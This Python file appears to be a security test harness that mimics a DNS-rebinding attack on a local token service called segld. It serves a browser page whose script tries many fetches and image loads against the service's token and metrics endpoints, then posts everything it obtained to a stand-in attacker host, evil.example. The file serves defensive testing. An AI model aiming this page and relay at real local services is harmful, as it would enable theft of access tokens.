# SPDX-License-Identifier: ISC
#
# A page of an attacker in a browser that runs on the host of a segld, and whose
# name then becomes an address of that host (DNS rebinding): PORT DIR. The first
# request that comes is answered with the page; all that come later go to
# segld's PORT byte by byte, as after the name was bound anew. What the page
# finds out it sends to another port of ours, and that goes to DIR/found. Prints
# the two ports.
import http.server
import os
import socket
import sys
import threading

segld, out = int(sys.argv[1]), sys.argv[2]
PAGE = """<!doctype html><title>page</title><body><script>
const segld = "http://127.0.0.1:%d", us = "http://evil.example:%d";
const found = [];
function get(what, url, options) {
	return fetch(url, options).then(r => r.text().then(t =>
	    found.push(what + " " + r.status + " " + t)),
	    e => found.push(what + " " + e));
}
const asked = {headers: {"Segl-Request": "1"}};
const texas = {method: "POST", body: JSON.stringify(
    {identity_provider: "maskinporten", target: "%s"})};
const typed = Object.assign({headers: {"Content-Type": "application/json"}},
    texas);
const form = {method: "POST", body: new URLSearchParams(
    {identity_provider: "maskinporten", target: "%s"})};
function image(url) {
	return new Promise(r => { const i = new Image();
	    i.onload = i.onerror = () => { found.push("image"); r(); };
	    i.src = url; });
}
Promise.all([
	get("rebound plain", "/v1/token", asked),
	get("rebound header", "/v1/header", asked),
	get("rebound Texas", "/api/v1/token", typed),
	get("rebound form", "/api/v1/token", form),
	get("rebound figures", "/metrics"),
	get("cross plain", segld + "/v1/token", asked),
	get("cross Texas", segld + "/api/v1/token", typed),
	get("cross form", segld + "/api/v1/token", form),
	get("blind plain", segld + "/v1/token", {mode: "no-cors"}),
	get("blind form", segld + "/api/v1/token",
	    Object.assign({mode: "no-cors"}, form)),
	get("blind Texas", segld + "/api/v1/token",
	    Object.assign({mode: "no-cors"}, texas)),
	image(segld + "/v1/token"), image("/v1/token"),
]).then(() => fetch(us + "/found", {method: "POST", mode: "no-cors",
    body: found.join("\\n")})).then(() => document.title = "all tried");
</script>"""


class Ours(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        with open(out + "/found.new", "wb") as f:
            f.write(body)
        os.rename(out + "/found.new", out + "/found")
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


def relay(a, b):
    try:
        while True:
            part = a.recv(65536)
            if not part:
                break
            b.sendall(part)
    except OSError:
        pass
    for s in a, b:
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def rebinding(listener):
    shown = False
    while True:
        s, _ = listener.accept()
        if not shown:
            head = s.recv(65536)
            if not head.startswith(b"GET /page"):
                s.close()
                continue
            shown = True
            s.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                      b"Connection: close\r\nContent-Length: %d\r\n\r\n" %
                      len(page) + page)
            s.close()
            continue
        there = socket.create_connection(("127.0.0.1", segld))
        for pair in ((s, there), (there, s)):
            threading.Thread(target=relay, args=pair, daemon=True).start()


ours = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ours)
threading.Thread(target=ours.serve_forever, daemon=True).start()
listener = socket.create_server(("127.0.0.1", 0))
scope = os.environ["SEGL_SCOPE"]
page = (PAGE % (segld, ours.server_port, scope, scope)).encode()
print(listener.getsockname()[1], ours.server_port, flush=True)
rebinding(listener)
